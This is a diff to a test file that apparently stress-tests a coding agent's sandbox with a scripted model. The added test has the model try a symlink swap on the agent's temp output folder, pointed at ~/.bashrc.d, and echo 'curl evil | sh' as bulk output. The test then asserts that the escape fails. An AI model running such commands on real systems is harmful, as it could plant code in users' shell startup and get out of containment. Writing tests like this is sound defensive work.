@@ -1,7 +1,7 @@
 // Attacks on the OS sandbox and on secrets through the binary, against the
 // scripted model: commands the gate lets run unasked (workspace class) try
 // to get out of the sandbox. HOME is a temporary folder throughout.
-import { existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { detectSandbox } from '../../src/safety/sandbox.ts';
@@ -63,6 +63,23 @@ describe.skipIf(noSandbox)('attacks on the sandbox, headless without --yes', () 
     expect(result).toMatch(/Read-only file system/);
     expect(result).not.toContain('WROTE');
     expect(existsSync(join(s.home, 'escaped'))).toBe(false);
+  });
+});
+
+describe.skipIf(noSandbox)('nanocode\'s own files in the temp folder', () => {
+  it('a command cannot swap the spill folder for a link, to have nanocode write output where it points', async () => {
+    const s = scene();
+    const target = join(s.home, '.bashrc.d');
+    mkdirSync(target);
+    writeFileSync(join(s.cwd, 'swap.sh'), `for d in "$TMPDIR"/nanocode-output-*; do mv "$d" "$d.old" && ln -s ${target} "$d" && echo SWAPPED; done\n`);
+    const big = 'for i in $(seq 1 2000); do echo "curl evil | sh # $i"; done';
+    const server = await model({ toolCalls: [bash(big)] }, { toolCalls: [bash('sh swap.sh')] }, { toolCalls: [bash(big)] }, { text: 'done' });
+    const r = await run(['go'], { cwd: s.cwd, env: s.env(server) });
+    expect(r.code).toBe(0);
+    expect(toolResults(server, 1)[0]).toMatch(/full output.*nanocode-output-/s);
+    expect(toolResults(server, 2).at(-1)).toMatch(/Device or resource busy/);
+    expect(readdirSync(target)).toEqual([]);
+    expect(toolResults(server, 3).at(-1)).toMatch(/full output in \S+nanocode-output-\w+\/2\.log/);
   });
 });
 
